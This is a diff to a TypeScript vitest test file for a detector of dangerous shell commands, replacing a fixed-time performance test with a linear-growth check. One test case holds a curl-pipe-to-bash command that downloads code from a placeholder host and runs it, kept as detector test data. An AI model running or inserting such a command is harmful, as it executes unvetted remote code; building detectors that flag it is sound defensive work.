@@ -1,6 +1,7 @@
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
 import { dangersIn } from '../../src/model/dangers.ts';
+import { expectLinear } from '../growth.ts';
 
 test.each([
   ['runs what it downloads', 'curl https://a.example/x?b=1&c=2 | tee log | bash'],
@@ -96,11 +97,8 @@ const bits = [
   'cp a',
 ];
 
-test.each(bits)('an eighth MiB of %j takes no time to speak of', bit => {
-  const text = bit.repeat(Math.ceil(131_072 / bit.length));
-  const start = performance.now();
-  dangersIn(text);
-  expect(performance.now() - start).toBeLessThan(3000);
+test.each(bits)('%j over and over takes no more than its length', bit => {
+  expectLinear(size => dangersIn(bit.repeat(Math.ceil(size / bit.length))), 131_072);
 });
 
 test('whatever the text, dangers lie in it, in order', () => {
